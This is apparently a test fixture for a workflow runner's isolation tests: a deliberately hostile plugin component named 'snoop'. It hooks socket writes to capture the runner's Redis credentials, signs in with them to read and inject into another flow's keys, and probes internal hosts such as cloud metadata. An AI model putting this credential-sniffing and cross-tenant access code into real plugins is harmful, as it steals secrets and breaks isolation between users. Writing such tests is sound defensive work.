// A hostile custom component, for the isolation tests (apps/worker/src/custom-component.test.ts).
// Loaded into a runner before the runner connects to Redis, it listens to every socket write and
// keeps the first AUTH it sees: the runner's own user and password. Its action then signs in with
// them over a raw socket and reaches for another flow's keys; it also tries the REDIS_URL of its
// environment as it is. It emits what Redis answered each time, and what became of raw connections
// to the addresses the message names (`probes`: the host's other services, cloud metadata, …).
import net from "node:net";
import { defineAction, defineComponent } from "@interflow/sdk";
import { z } from "zod";

/** RESP array of bulk strings */
const resp = (args: string[]) => `*${args.length}\r\n${args.map((a) => `$${Buffer.byteLength(a)}\r\n${a}\r\n`).join("")}`;

/** the arguments of the first AUTH command written on any socket of this process */
let captured: string[] | undefined;
const originalWrite = net.Socket.prototype.write;
if (process.env.INTERFLOW_FLOW_ID) {
  net.Socket.prototype.write = function (this: net.Socket, chunk: unknown, ...rest: unknown[]) {
    if (!captured) {
      const text = typeof chunk === "string" ? chunk : Buffer.isBuffer(chunk) ? chunk.toString("latin1") : "";
      const parts = text.split("\r\n");
      const at = parts.findIndex((p) => p.toLowerCase() === "auth");
      // *3 $4 auth $n user $n password (or *2 … password alone)
      if (at > 0) captured = parts.slice(at + 2, at + 5).filter((_, i) => i % 2 === 0);
    }
    return (originalWrite as (...args: unknown[]) => boolean).call(this, chunk, ...rest);
  } as typeof net.Socket.prototype.write;
}

/** "connected", or the error code of a raw TCP connection to host:port (within 3 s: "timeout") */
function probe(host: string, port: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect(port, host);
    const done = (what: string) => {
      socket.destroy();
      resolve(what);
    };
    socket.setTimeout(3_000, () => done("timeout"));
    socket.once("connect", () => done("connected"));
    socket.once("error", (error: NodeJS.ErrnoException) => done(error.code ?? error.message));
  });
}

/** sends the commands over one raw connection and answers Redis's replies, one string per command */
function ask(url: string, commands: string[][]): Promise<string[]> {
  const u = new URL(url);
  return new Promise((resolve) => {
    const socket = net.connect(Number(u.port || 6379), u.hostname);
    let text = "";
    socket.on("data", (chunk) => {
      text += chunk.toString("latin1");
    });
    const done = () => {
      socket.destroy();
      // one reply per command: simple strings, errors, integers, nil and bulk strings (cut short)
      const replies: string[] = [];
      const lines = text.split("\r\n");
      for (let i = 0; i < lines.length && replies.length < commands.length; i++) {
        const line = lines[i] ?? "";
        if (line.startsWith("$") && line !== "$-1") replies.push((lines[++i] ?? "").slice(0, 300));
        else if (line !== "") replies.push(line);
      }
      resolve(replies);
    };
    socket.on("error", done);
    socket.on("connect", () => {
      (originalWrite as (...args: unknown[]) => boolean).call(socket, commands.map(resp).join(""));
      setTimeout(done, 500);
    });
  });
}

export default defineComponent({
  name: "snoop",
  title: "Snoop",
  description: "Reaches for another flow's Redis keys (a test of isolation).",
  functions: {
    reach: defineAction({
      title: "Reach",
      description: "Tries to read and write the keys of the flow named by the message's `other`.",
      fields: [],
      config: z.object({}),
      process: async ({ message, emit }) => {
        const other = String((message.body as { other?: unknown }).other);
        const own = String(process.env.INTERFLOW_FLOW_ID);
        const url = String(process.env.REDIS_URL);
        const db = new URL(url).pathname.slice(1) || "0";
        const attempts = [
          ["GET", `if:{${own}}:deployment`],
          ["GET", `if:{${other}}:deployment`],
          ["LPUSH", `if:{${other}}:injected`, "evil"],
          ["EVAL", `return redis.call('get', 'if:{${other}}:deployment')`, "0"],
          ["SCAN", "0"],
          ["CONFIG", "GET", "requirepass"],
        ];
        const signedIn = captured ? await ask(url, [["AUTH", ...captured], ["SELECT", db], ...attempts]) : ["no AUTH seen"];
        const asGiven = await ask(url, [["SELECT", db], ["GET", `if:{${other}}:deployment`]]);
        const probes = Array.isArray((message.body as { probes?: unknown }).probes) ? ((message.body as { probes: Array<{ host: string; port: number }> }).probes) : [];
        const reached = Object.fromEntries(await Promise.all(probes.map(async ({ host, port }) => [`${host}:${port}`, await probe(host, port)] as const)));
        emit.data({ capturedUser: captured && captured.length > 1 ? captured[0] : null, signedIn, asGiven, reached });
      },
    }),
  },
});
